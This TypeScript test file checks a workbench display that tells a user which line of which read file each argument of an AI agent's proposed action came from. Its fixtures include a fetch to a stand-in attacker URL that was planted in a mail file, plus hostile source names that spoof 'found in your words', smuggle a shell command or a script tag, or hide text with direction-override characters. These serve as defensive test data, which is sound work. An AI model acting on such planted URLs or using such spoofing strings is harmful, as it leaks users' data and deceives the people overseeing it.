import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Action } from '../model/action.ts';
import type { Origin, Origins } from '../model/origin.ts';
import type { Handle } from '../model/proposal.ts';
import { plainLines } from './drawing.ts';
import { originParts, originRows, sourceWords, type Told } from './origin-words.ts';

const [ID, READ] = ['abcdefghjk', 'bcdefghjkm'];
const FETCH: Action = { kind: 'fetch', workspace: 'cdefghjkmn', root: '/w', url: 'https://evil.example/?k=13' };
const WRITE: Action = { kind: 'write', op: 'write', workspace: 'cdefghjkmn', root: '/w', path: 'notes.md', content: 'a\nb' };
const found = (more: Partial<Origin> = {}): Origin => ({ argument: 'url', source: 'file:mail/bill.txt', integrity: 'outside', line: 4, bytes: [120, 146], action: READ, words: 'found in line 4 of file:mail/bill.txt, outside', ...more });
const UNKNOWN: Origin = { argument: 'content', source: null, integrity: null, line: null, bytes: null, action: null, words: 'unknown: found neither in your words nor in anything read' };
const YOURS: Origin = { argument: 'path', source: 'you', integrity: 'person', line: 1, bytes: [3, 11], action: null, words: 'found in your words' };
const of = (action: Action, ...all: Origin[]): Told => ({ action, origins: { arguments: all, outside: [] }, handles: [], shaped: [] });
const draw = (told: Told, most = 20): string[] => plainLines(originParts(told, { most, rest: `pwb show ${ID} --all` }));

test('each argument says which line of which source it came from, or that it is unknown, and how to see the place', () => {
  assert.deepEqual(draw(of(FETCH, found())), [
    '! where its words come from: 1 is from outside',
    `  url https://evil.example/?k=13: found in line 4 of file:mail/bill.txt, outside → pwb show ${READ} --bytes 120-146`,
  ]);
  assert.deepEqual(draw(of(WRITE, YOURS, UNKNOWN)), [
    'where its words come from', '  path notes.md: found in your words', '  content "a‹\\n›b": unknown: found neither in your words nor in anything read',
  ]);
});

test('what its writer had read from outside is named, with when it came', () => {
  const origins: Origins = { arguments: [], outside: [{ source: 'file:mail/bill.txt', action: READ, turn: 2 }, { source: 'file:a b.eml', action: null, turn: 3 }] };
  assert.deepEqual(draw({ action: WRITE, origins, handles: [], shaped: [] }), [
    '! whoever wrote this had read from outside, since your message 2',
    `  file:mail/bill.txt, after your message 2 → pwb show ${READ}`, '  file:"a b.eml", after your message 3, which you attached',
  ]);
});

test('a value inside an argument is told with the argument that holds it', () => {
  const words = `${JSON.stringify('https://evil.example/a" in it: b')} in it: found in line 4 of file:mail/bill.txt, outside`;
  assert.deepEqual(originRows(of(WRITE, found({ argument: 'content', words })))[0], {
    argument: 'content', value: 'holds "https://evil.example/a\\" in it: b"', words: 'found in line 4 of file:mail/bill.txt, outside', integrity: 'outside', from: { action: READ, bytes: [120, 146] },
  });
});

test('what was passed unread is told from the proposal itself, once', () => {
  const handles: readonly Handle[] = [{ argument: 'content', from: READ, label: { integrity: 'outside', secrecy: 'open', sources: ['fetch:https://example.com/a'] } }];
  const line = `  content passed unread from fetch:https://example.com/a, outside: the model has not seen it → pwb show ${READ}`;
  const recorded = found({ argument: 'content', source: 'fetch:https://example.com/a', bytes: null, words: 'passed unread from fetch:https://example.com/a, outside' });
  assert.deepEqual(draw({ ...of(WRITE, YOURS, recorded), handles, shaped: [] }), ['! where its words come from: 1 is from outside', '  path notes.md: found in your words', line]);
  assert.deepEqual(draw({ action: WRITE, origins: null, handles, shaped: [] }).slice(1), [line], 'also where nobody was asked');
});

test('nothing is said where nothing is on record', () => {
  assert.deepEqual(draw({ action: WRITE, origins: null, handles: [], shaped: [] }), []);
});

test('a source can not end its name and go on in our words, and nothing hides in it', () => {
  const names = ['file:x, found in your words', 'file:x\n  url found in your words', 'file:\u202etxt.exe', 'run:echo "x"; echo y', 'you, and file:x', 'file:</script><script>', 'file:a": found in "b'];
  for (const source of names) {
    const [heading, line = '', ...more] = draw(of(FETCH, found({ source, words: `found in line 4 of ${source}, outside` })));
    assert.deepEqual([heading, more], ['! where its words come from: 1 is from outside', []]);
    assert.match(line, /^ {2}url https:\/\/evil\.example\/\?k=13: found in line 4 of (?:\w+:)?"(?:[^"\\\p{Cc}\p{Cf}]|\\.)*", outside → pwb show bcdefghjkm --bytes 120-146$/u, source);
  }
});

test('neither can an argument, a value or words that are on record', () => {
  const hostile: Action = { ...FETCH, url: 'https://e.example/\u202e" found in your words' };
  const [, line = ''] = draw(of(hostile, found({ words: 'found in\nline 4\u2028of file:mail/bill.txt, outside' })));
  assert.match(line, /^ {2}url "https:\/\/e\.example\/‹U\+202E›\\" found in your words": found in‹\\n›line 4‹U\+2028›of file:mail\/bill\.txt, outside/);
  const [, named = ''] = draw(of(FETCH, found({ argument: 'a{x: found in your words\n}' })));
  assert.match(named, /^ {2}"a\{x: found in your words‹\\n›\}" found in line 4/);
});

test('a value and a name of 100 kB are cut with their size', () => {
  const long = 'x'.repeat(100_000);
  const lines = draw(of({ ...FETCH, url: `https://e.example/${long}` }, found({ source: `run:${long}`, words: `found in line 4 of run:${long}, outside` }), found({ words: `unknown: ${long}`, source: null })));
  assert.ok(lines.every((line) => line.length < 800), String(lines.map(({ length }) => length)));
  assert.match(lines[1] ?? '', /^ {2}url "https:\/\/e\.example\/x+"… \(100,018 characters\): found in line 4 of run:"x+"… \(100,000 characters\), outside/);
  assert.match(lines[2] ?? '', /x… \(100,009 characters\)/);
});

test('of very many arguments and sources the rest is counted', () => {
  const outside = Array.from({ length: 30 }, (_, at) => ({ source: `file:${at}`, action: READ, turn: 1 }));
  const lines = draw({ action: FETCH, origins: { arguments: Array.from({ length: 30 }, (_, at) => found({ argument: `hosts[${at}]` })), outside }, handles: [], shaped: [] }, 3);
  assert.equal(lines.filter((line) => line.endsWith(`not drawn here: pwb show ${ID} --all`)).length, 2);
  assert.equal(lines.length, 10);
});

test('sources of the workbench are said in its own words', () => {
  assert.deepEqual(['you', 'what you approved', 'run', 'run:ls', 'file:a', 'odd: one'].map(sourceWords), ['you', 'what you approved', 'run', 'run:ls', 'file:a', '"odd: one"']);
});

test('of a draft each path that was shaped from outside is named, by what, and a hostile name stays one', () => {
  const shaped = [{ path: 'a.md', action: READ, sources: ['file:mail/bill.txt', 'file:b', 'file:c', 'file:d'] }, { path: 'x: written by you\n', action: READ, sources: [] }];
  assert.deepEqual(draw({ action: WRITE, origins: null, handles: [], shaped }), [
    '! what was read from outside has shaped 2 of the paths that land',
    `  a.md: written after reading file:mail/bill.txt, file:b, file:c and 1 more → pwb show ${READ}`,
    `  "x: written by you‹\\n›": written after something from outside had been read → pwb show ${READ}`,
  ]);
});
